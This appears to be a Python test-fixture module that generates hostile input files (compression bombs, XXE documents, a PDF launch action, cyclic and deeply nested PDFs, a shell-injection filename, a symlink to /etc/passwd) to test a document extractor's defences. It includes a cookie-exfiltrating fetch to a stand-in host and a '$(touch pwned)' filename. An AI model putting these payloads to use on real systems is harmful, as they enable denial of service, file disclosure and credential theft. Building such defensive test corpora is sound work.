"""Builders of a hostile corpus: broken, oversized, lying and malicious input files, plus three
good programmes, all made by code (nothing is shipped).

    build_hostile_folder(folder, big=True) -> list[HostileCase]

writes every file into `folder` and returns what each should give. `big=False` leaves out
the 50 MB text file. Gigabyte-sized compressed payloads are made without ever holding the
inflated bytes: a deflate segment of 1 MB of zeros, flushed so that it stands alone, is
repeated (`zeros_zlib`, `zeros_deflate`), and checksums of zeros are computed arithmetically.

Each case says which statuses are acceptable and words its error must contain; a case
whose outcome depends on how tolerant a parser is (a truncated PDF may still be read)
accepts several statuses, but never a missing Outcome or a failure without an error.
"""
from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional

from reportlab.lib.pagesizes import A4
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

MB = 1024 * 1024
GB = 1024 * MB
OK, PARTIAL, FAILED = "ok", "partial", "failed"
ANY = frozenset({OK, PARTIAL, FAILED})
SECRET_FILE = "/etc/passwd"  # what the XXE and symlink cases try to read

# --------------------------------------------------------------------------- good programmes

GOOD_TXT = """International Workshop on Glacier Monitoring 2024
Innsbruck, 4 June 2024

Session 1 – Mass balance
- Winter accumulation measured by radar, Ingrid Holm, University of Bergen
- Debris cover and melt rates, Tomasz Nowak, Jagiellonian University

Session 2 – Hazards
- Outburst floods in the Alps, Chiara Rossi, University of Turin
"""
GOOD_TXT_ITEMS = ("Winter accumulation measured by radar", "Debris cover and melt rates", "Outburst floods in the Alps")
GOOD_TXT_SPEAKERS = ("Ingrid Holm", "Tomasz Nowak", "Chiara Rossi")

GOOD_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Soil Carbon Days 2023</title></head>
<body>
<h1>Soil Carbon Days 2023</h1>
<p>18 September 2023, Lyon, France</p>
<h2>Session 1 – Measuring carbon</h2>
<ul>
<li>Sampling depth and stock estimates, Claire Dubois, INRAE</li>
<li>Spectroscopy in the field, Henrik Larsen, Aarhus University</li>
</ul>
</body></html>
"""
GOOD_HTML_ITEMS = ("Sampling depth and stock estimates", "Spectroscopy in the field")
GOOD_HTML_SPEAKERS = ("Claire Dubois", "Henrik Larsen")

GOOD_PDF_LINES = (
    ("Helvetica-Bold", 18, "Forum on Coastal Wetlands 2025"),
    ("Helvetica", 11, "Gdansk, 9 May 2025"),
    ("Helvetica-Bold", 14, "Session 1: Salt marsh dynamics"),
    ("Helvetica", 11, "- Sediment supply to marshes, Olga Petrova, University of Gdansk"),
    ("Helvetica", 11, "- Vegetation and storm surges, Lucas Martin, Ifremer"),
)
GOOD_PDF_ITEMS = ("Sediment supply to marshes", "Vegetation and storm surges")
GOOD_PDF_SPEAKERS = ("Olga Petrova", "Lucas Martin")

SHELL_NAME = "a b;$(touch pwned)'.txt"
UNICODE_NAME = "programme été — Zürich №1.txt"


@dataclass(frozen=True)
class HostileCase:
    """One file of the corpus and what parsing it must give."""

    name: str
    statuses: frozenset[str]
    error_words: tuple[str, ...] = ()  # each must appear (case-insensitive) in the error
    format_found: Optional[str] = None  # expected format, when known
    good: bool = False  # one of the three good programmes
    items: tuple[str, ...] = ()  # item titles a good programme must yield
    speakers: tuple[str, ...] = ()  # speaker names a good programme must yield
    note: str = ""


@dataclass
class _Entry:
    case: HostileCase
    build: Callable[[Path], None]
    big: bool = False
    needs: tuple[str, ...] = field(default_factory=tuple)


# --------------------------------------------------------------------------- compressed zeros


def _zero_segment() -> bytes:
    """Raw deflate of 1 MB of zeros, ended by a full flush so it can be repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)


def zeros_deflate(n_mb: int) -> bytes:
    """A raw deflate stream of `n_mb` MB of zeros (about 1 KB per MB), built instantly."""
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return _zero_segment() * n_mb + final


def zeros_zlib(n_mb: int) -> bytes:
    """A zlib stream (FlateDecode) of `n_mb` MB of zeros with a correct Adler-32."""
    size = n_mb * MB
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b counts the bytes
    return b"\x78\xda" + zeros_deflate(n_mb) + struct.pack(">I", adler)


def zeros_crc32(n_mb: int) -> int:
    """CRC-32 of `n_mb` MB of zeros."""
    crc = 0
    block = bytes(MB)
    for _ in range(n_mb):
        crc = zlib.crc32(block, crc)
    return crc


# --------------------------------------------------------------------------- hand-written PDFs


def pdf_from_objects(objects: list[bytes], *, trailer_extra: bytes = b"", header: bytes = b"%PDF-1.4\n") -> bytes:
    """A PDF file from object bodies (object i+1 is objects[i]; object 1 is the catalog)."""
    out = io.BytesIO()
    out.write(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref))
    return out.getvalue()


def stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object body."""
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _text_content(lines: list[str]) -> bytes:
    """A content stream writing lines of Helvetica 12 pt from the top of an A4 page."""
    parts = [b"BT /F1 12 Tf 72 770 Td 16 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        parts.append(b"(" + escaped.encode("latin-1") + b") Tj T*")
    parts.append(b"ET")
    return b"\n".join(parts)


def one_page_pdf(content: bytes, *, resources: bytes = b"<< /Font << /F1 4 0 R >> >>", extra: list[bytes] | None = None,
                 catalog_extra: bytes = b"") -> bytes:
    """Catalog 1, Pages 2, Page 3, Font 4, Contents 5, then `extra` objects 6, 7, ..."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources " + resources + b" /Contents 5 0 R >>",
        FONT,
        stream(b"", content),
        *(extra or []),
    ]
    return pdf_from_objects(objects)


def flate_bomb_pdf(n_mb: int = 1024) -> bytes:
    """A page whose content stream inflates to `n_mb` MB of zeros (about 1 MB on disk)."""
    bomb = zeros_zlib(n_mb)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        FONT,
        stream(b"/Filter /FlateDecode", bomb),
    ]
    return pdf_from_objects(objects)


def many_pages_pdf(n_pages: int = 3000) -> bytes:
    """`n_pages` tiny pages sharing one font and one content stream (objects written directly)."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(n_pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n_pages,
        FONT,
        stream(b"", _text_content(["A page of a very long programme"])),
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    objects.extend(page for _ in range(n_pages))
    return pdf_from_objects(objects)


def huge_image_pdf(side: int = 20000) -> bytes:
    """A page with text and a `side`×`side` grey image whose Flate data inflates to side² bytes."""
    n_mb = max(1, side * side // MB)
    image = stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                   b"/BitsPerComponent 8 /Filter /FlateDecode" % (side, side), zeros_zlib(n_mb))
    content = _text_content(["Programme with a huge image", "Session 1: Imaging"]) + b"\nq 100 0 0 100 72 300 cm /Im1 Do Q"
    return one_page_pdf(content, resources=b"<< /Font << /F1 4 0 R >> /XObject << /Im1 6 0 R >> >>", extra=[image])


def huge_dimensions_pdf() -> bytes:
    """A page with text and an image declaring 100000×100000 pixels backed by 16 bytes of junk."""
    image = stream(b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB "
                   b"/BitsPerComponent 8 /Filter /DCTDecode", b"\xff\xd8\xff\xe0junkjunkjunk")
    content = _text_content(["Programme with an absurd image", "Session 1: Imaging"]) + b"\nq 100 0 0 100 72 300 cm /Im1 Do Q"
    return one_page_pdf(content, resources=b"<< /Font << /F1 4 0 R >> /XObject << /Im1 6 0 R >> >>", extra=[image])


def cyclic_pdf() -> bytes:
    """A page tree whose Pages node lists itself, a /Length that refers to itself, and a
    pair of objects referring to each other."""
    content = _text_content(["Cyclic programme", "Session 1: Loops"])
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Loop 6 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        FONT,
        b"<< /Length 8 0 R >>\nstream\n" + content + b"\nendstream",
        b"<< /Next 7 0 R >>",
        b"<< /Next 6 0 R >>",
        b"8 0 R",
    ]
    return pdf_from_objects(objects)


def deep_nesting_pdf(depth: int = 100_000) -> bytes:
    """A page whose resources hold an array nested `depth` deep and a dictionary nested deep."""
    arrays = b"[" * depth + b"1" + b"]" * depth
    dicts = b"<< /A " * (depth // 10) + b"1" + b" >>" * (depth // 10)
    content = _text_content(["Deeply nested programme", "Session 1: Recursion"])
    return one_page_pdf(content, resources=b"<< /Font << /F1 4 0 R >> /Deep 6 0 R /Deeper 7 0 R >>", extra=[arrays, dicts])


def launch_action_pdf() -> bytes:
    """A PDF asking the viewer to run a command and a script when opened (must be ignored)."""
    content = _text_content(["Programme with actions", "Session 1: Safety", "- Nothing runs, Ada Byron, University of London"])
    actions = b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c touch pwned) >> >> " \
              b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >> "
    return one_page_pdf(content, catalog_extra=actions)


def _reportlab_pdf(lines: tuple[tuple[str, int, str], ...], **canvas_options: object) -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, invariant=1, **canvas_options)
    y = A4[1] - 72
    for font, size, text in lines:
        c.setFont(font, size)
        c.drawString(72, y, text)
        y -= size + 10
    c.showPage()
    c.save()
    return buf.getvalue()


def good_pdf() -> bytes:
    """The good PDF programme (reportlab)."""
    return _reportlab_pdf(GOOD_PDF_LINES)


def password_pdf() -> bytes:
    """A programme that needs a user password to open."""
    return _reportlab_pdf(GOOD_PDF_LINES, encrypt=StandardEncryption("secret", ownerPassword="owner-secret"))


def empty_password_pdf() -> bytes:
    """A programme encrypted with an empty user password and an owner password (opens freely)."""
    return _reportlab_pdf(GOOD_PDF_LINES, encrypt=StandardEncryption("", ownerPassword="owner-secret", canModify=0))


def image_only_pdf() -> bytes:
    """A page holding only a small grey noise image (no text layer)."""
    from reportlab.lib.utils import ImageReader
    from PIL import Image

    rng = random.Random(7)
    image = Image.frombytes("L", (160, 120), bytes(rng.randrange(200, 256) for _ in range(160 * 120)))
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, invariant=1)
    c.drawImage(ImageReader(image), 72, 500, width=320, height=240)
    c.showPage()
    c.save()
    return buf.getvalue()


def truncated_pdf() -> bytes:
    """The good PDF cut in the middle."""
    data = good_pdf()
    return data[: len(data) // 2]


def broken_xref_pdf() -> bytes:
    """The good PDF with a wrong startxref offset and a garbled xref table."""
    data = good_pdf()
    head, sep, tail = data.rpartition(b"startxref")
    tail = b"\n99999999\n%%EOF\n"
    head = head.replace(b"xref\n", b"xref\nGARBAGE\n", 1)
    return head + sep + tail


# --------------------------------------------------------------------------- ZIP / docx


def _docx_bytes(paragraphs: list[str]) -> bytes:
    """A real .docx made with python-docx."""
    import docx

    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
    """A copy of a ZIP with some members replaced and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, payload in (add or {}).items():
            dst.writestr(name, payload)
    return out.getvalue()


def _append_raw_member(data: bytes, name: str, compressed: bytes, crc: int, size: int) -> bytes:
    """Append a deflated member whose compressed bytes are given (so its size can be huge)."""
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        members = [(i, src.read(i)) for i in src.infolist()]
    out = io.BytesIO()
    central = []

    def local(file_name: bytes, method: int, crc_value: int, csize: int, usize: int, payload: bytes) -> None:
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc_value, csize, usize, len(file_name), 0))
        out.write(file_name + payload)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc_value, csize,
                                   usize, len(file_name), 0, 0, 0, 0, 0, offset) + file_name)

    for info, payload in members:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = compressor.compress(payload) + compressor.flush()
        local(info.filename.encode(), 8, zlib.crc32(payload), len(packed), len(payload), packed)
    local(name.encode(), 8, crc, len(compressed), size, compressed)
    directory_offset = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central),
                          out.tell() - directory_offset, directory_offset, 0))
    return out.getvalue()


def zip_bomb_docx(n_mb: int = 1024) -> bytes:
    """A real docx plus a member that inflates to `n_mb` MB of zeros."""
    base = _docx_bytes(["Programme of the bomb workshop", "Session 1: Compression"])
    return _append_raw_member(base, "word/media/zeros.bin", zeros_deflate(n_mb), zeros_crc32(n_mb), n_mb * MB)


def nested_zip_docx() -> bytes:
    """A docx embedding a zip that holds a zip that holds a zip."""
    inner = b"payload"
    for level in range(3):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"level{level}.zip" if level else "data.txt", inner)
        inner = buf.getvalue()
    base = _docx_bytes(["Programme with nested archives", "Session 1: Matryoshka"])
    return _rezip(base, {}, {"word/embeddings/inner.zip": inner})


XXE_DOCTYPE = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{SECRET_FILE}">]>'


def xxe_docx() -> bytes:
    """A docx whose document.xml declares an external entity on /etc/passwd and uses it."""
    base = _docx_bytes(["Programme XXE-MARKER", "Session 1: Entities"])
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    head, sep, body = xml.partition("?>")
    xml = head + sep + XXE_DOCTYPE + body.replace("XXE-MARKER", "&xxe;")
    return _rezip(base, {"word/document.xml": xml.encode("utf-8")})


def not_a_docx() -> bytes:
    """A plain ZIP archive named .docx."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("notes.txt", "Session 1: nothing here")
    return buf.getvalue()


# --------------------------------------------------------------------------- text and HTML


def nested_html(depth: int = 100_000) -> bytes:
    """`depth` nested <div>s around one paragraph."""
    return (b"<!DOCTYPE html><html><body>" + b"<div>" * depth + b"<p>Session 1: Deep nesting</p>"
            + b"</div>" * depth + b"</body></html>")


def xxe_html() -> bytes:
    """HTML with an external entity on /etc/passwd, scripts, an iframe, remote images and a refresh."""
    return f"""<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{SECRET_FILE}">]>
<html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0; url=http://example.invalid/">
<title>Entity Workshop 2024</title>
<script>fetch('http://example.invalid/steal?c=' + document.cookie)</script></head>
<body onload="alert(1)">
<h1>Entity Workshop 2024</h1>
<p>&xxe;</p>
<iframe src="file://{SECRET_FILE}"></iframe>
<img src="http://example.invalid/pixel.png">
<h2>Session 1 – Safe parsing</h2>
<ul><li>Never expand entities, Bob Tables, University of Leeds</li></ul>
<script>document.write('<p>injected</p>')</script>
</body></html>
""".encode("utf-8")


def lying_charset_html() -> bytes:
    """HTML declaring UTF-8 whose bytes are cp1252."""
    text = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Zürich Forum</title></head>
<body><h1>Zürich Forum – “Übergänge”</h1><h2>Session 1 – Café talks</h2>
<ul><li>Städte im Wandel, Jürg Müller, ETH Zürich</li></ul></body></html>"""
    return text.encode("cp1252")


def binary_blob(n: int = 8192) -> bytes:
    """Deterministic random bytes."""
    return random.Random(42).randbytes(n)


def gzip_blob() -> bytes:
    """A gzip archive of a programme."""
    import gzip

    return gzip.compress(GOOD_TXT.encode("utf-8"), mtime=0)


def nul_text() -> bytes:
    """The good text programme with NUL bytes sprinkled into it."""
    return GOOD_TXT.replace("Session", "Ses\x00sion").replace(", ", ",\x00 ").encode("utf-8")


def write_long_line(path: Path, n_mb: int = 50) -> None:
    """A `n_mb` MB text file with no newline, written in pieces."""
    piece = (b"Session 1 - endless talk, Anna Smith, University of Nowhere; ") * 16384
    with open(path, "wb") as handle:
        written = 0
        while written < n_mb * MB:
            handle.write(piece)
            written += len(piece)


# --------------------------------------------------------------------------- the corpus


def _writer(data_fn: Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data_fn())


def _symlink_outside(path: Path) -> None:
    path.symlink_to(SECRET_FILE)


def _locked(path: Path) -> None:
    path.write_text(GOOD_TXT, encoding="utf-8")
    path.chmod(0)


def _entries() -> list[_Entry]:
    """Every file of the corpus (see the module docstring)."""
    c = HostileCase
    return [
        # --- broken PDFs
        _Entry(c("empty.pdf", frozenset({FAILED}), ("empty",), "empty"), _writer(lambda: b"")),
        _Entry(c("truncated.pdf", ANY, note="pdfminer may recover a truncated file"), _writer(truncated_pdf)),
        _Entry(c("broken-xref.pdf", ANY, format_found="pdf", note="pdfminer rebuilds a broken xref"), _writer(broken_xref_pdf)),
        _Entry(c("cyclic-refs.pdf", ANY, format_found="pdf"), _writer(cyclic_pdf)),
        _Entry(c("deep-nesting.pdf", ANY, format_found="pdf"), _writer(deep_nesting_pdf)),
        _Entry(c("flate-bomb.pdf", frozenset({FAILED}), ("limit",), "pdf"), _writer(flate_bomb_pdf)),
        _Entry(c("3000-pages.pdf", frozenset({FAILED}), ("3,000", "pages"), "pdf"), _writer(many_pages_pdf)),
        _Entry(c("huge-image.pdf", frozenset({FAILED, OK}), (), "pdf",
                 note="refused when the image inflates past max_decompressed_bytes"), _writer(huge_image_pdf)),
        _Entry(c("huge-dimensions.pdf", frozenset({OK, PARTIAL}), (), "pdf"), _writer(huge_dimensions_pdf)),
        _Entry(c("password.pdf", frozenset({FAILED}), ("password",), "pdf"), _writer(password_pdf)),
        _Entry(c("empty-user-password.pdf", frozenset({OK}), (), "pdf", items=GOOD_PDF_ITEMS), _writer(empty_password_pdf)),
        _Entry(c("image-only.pdf", frozenset({OK, PARTIAL}), (), "pdf", note="OCR'd when tesseract is installed"),
               _writer(image_only_pdf)),
        _Entry(c("launch-action.pdf", frozenset({OK}), (), "pdf"), _writer(launch_action_pdf)),
        # --- wrong types
        _Entry(c("really-html.pdf", frozenset({OK}), (), "html", items=GOOD_HTML_ITEMS), _writer(lambda: GOOD_HTML.encode())),
        _Entry(c("binary.txt", frozenset({FAILED}), ("binary",), "binary"), _writer(binary_blob)),
        _Entry(c("gzip.html", frozenset({FAILED}), ("gzip",), "gzip"), _writer(gzip_blob)),
        _Entry(c("notes.xyz", frozenset({OK}), (), "txt", items=GOOD_TXT_ITEMS), _writer(lambda: GOOD_TXT.encode())),
        _Entry(c("plain-archive.docx", frozenset({FAILED}), ("zip",), "zip"), _writer(not_a_docx)),
        # --- text
        _Entry(c("utf16-bom.txt", frozenset({OK}), (), "txt", items=GOOD_TXT_ITEMS), _writer(lambda: GOOD_TXT.encode("utf-16"))),
        _Entry(c("cp1252.txt", frozenset({OK}), (), "txt"),
               _writer(lambda: "Journée d’étude – Café “Numérique”\nSession 1 – Données\n- Ouverture, Hélène Brûlé, Université de Nîmes\n".encode("cp1252"))),
        _Entry(c("lying-charset.html", frozenset({OK}), (), "html"), _writer(lying_charset_html)),
        _Entry(c("nul-bytes.txt", frozenset({OK}), (), "txt", items=GOOD_TXT_ITEMS), _writer(nul_text)),
        _Entry(c("long-line.txt", frozenset({FAILED}), ("limit",), "txt"), write_long_line, big=True),
        _Entry(c("deep-nesting.html", ANY, format_found="html"), _writer(nested_html)),
        _Entry(c("xxe-scripts.html", frozenset({OK}), (), "html"), _writer(xxe_html)),
        # --- docx
        _Entry(c("zip-bomb.docx", frozenset({FAILED}), ("zip bomb",), "docx"), _writer(zip_bomb_docx)),
        _Entry(c("nested-zip.docx", frozenset({FAILED}), ("nested",), "docx"), _writer(nested_zip_docx)),
        _Entry(c("xxe.docx", ANY, format_found="docx"), _writer(xxe_docx)),
        # --- file system
        _Entry(c(SHELL_NAME, frozenset({OK}), (), "txt", items=GOOD_TXT_ITEMS), _writer(lambda: GOOD_TXT.encode())),
        _Entry(c(UNICODE_NAME, frozenset({OK}), (), "txt", items=GOOD_TXT_ITEMS), _writer(lambda: GOOD_TXT.encode())),
        _Entry(c("link-outside.txt", frozenset({FAILED}), ("outside",)), _symlink_outside),
        _Entry(c("locked.txt", frozenset({FAILED}), ("permissions",)), _locked),
        # --- the good programmes
        _Entry(c("good-programme.txt", frozenset({OK}), (), "txt", good=True, items=GOOD_TXT_ITEMS,
                 speakers=GOOD_TXT_SPEAKERS), _writer(lambda: GOOD_TXT.encode())),
        _Entry(c("good-programme.html", frozenset({OK}), (), "html", good=True, items=GOOD_HTML_ITEMS,
                 speakers=GOOD_HTML_SPEAKERS), _writer(lambda: GOOD_HTML.encode())),
        _Entry(c("good-programme.pdf", frozenset({OK}), (), "pdf", good=True, items=GOOD_PDF_ITEMS,
                 speakers=GOOD_PDF_SPEAKERS), _writer(good_pdf)),
    ]


def build_hostile_folder(folder: Path, *, big: bool = True, good: bool = True, hostile: bool = True) -> list[HostileCase]:
    """Write the corpus into `folder` (created if needed); returns the cases written.

    `big=False` skips the 50 MB file; `good`/`hostile` select the good programmes and the
    hostile files (a folder of only the good ones is the reference run of the CLI test).
    """
    folder.mkdir(parents=True, exist_ok=True)
    cases = []
    for entry in _entries():
        if entry.big and not big:
            continue
        if (entry.case.good and not good) or (not entry.case.good and not hostile):
            continue
        entry.build(folder / entry.case.name)
        cases.append(entry.case)
    return cases


def case_names() -> list[str]:
    """Names of every file of the full corpus."""
    return [e.case.name for e in _entries()]


def unlock(folder: Path) -> None:
    """Give read permission back to locked files (so temporary folders can be removed)."""
    for path in folder.iterdir():
        if not path.is_symlink() and path.is_file() and not os.stat(path).st_mode & 0o444:
            path.chmod(0o644)


# --------------------------------------------------------------------------- misbehaving worker target

# File contents that make `misbehaving_target` misbehave, and the error each must produce.
MISBEHAVIOURS = {
    b"sleep": "longer than",
    b"allocate": "memory limit",
    b"segfault": "signal 11 (SIGSEGV)",
    b"sigkill": "signal 9 (SIGKILL)",
    b"exit": "exited unexpectedly with code 3",
    b"recurse": "nested too deeply",
}


def misbehaving_target(data: bytes, name: str, limits: object):
    """A worker target (see `WorkerPool(target=...)`) that hangs, eats memory, crashes or exits
    when the file says so, and otherwise reads the file as plain text (no models needed).

    It runs in a real worker process: the pool must survive each misbehaviour.
    """
    import ctypes
    import signal
    import time

    from extractors.extract import Extraction
    from extractors.model import Meeting, Programme
    from extractors.readers.text import read_text

    command = data.strip()
    if command == b"sleep":
        time.sleep(600)
    elif command == b"allocate":
        hoard = [bytearray(64 * MB) for _ in range(64)]  # 4 GB, far over any test limit
        return hoard
    elif command == b"segfault":
        ctypes.string_at(0)
    elif command == b"sigkill":
        os.kill(os.getpid(), signal.SIGKILL)
    elif command == b"exit":
        os._exit(3)
    elif command == b"recurse":

        def down(n: int) -> int:
            return down(n + 1) + 1

        down(0)
    return Extraction(document=read_text(data), programme=Programme(meeting=Meeting(), sessions=[]))
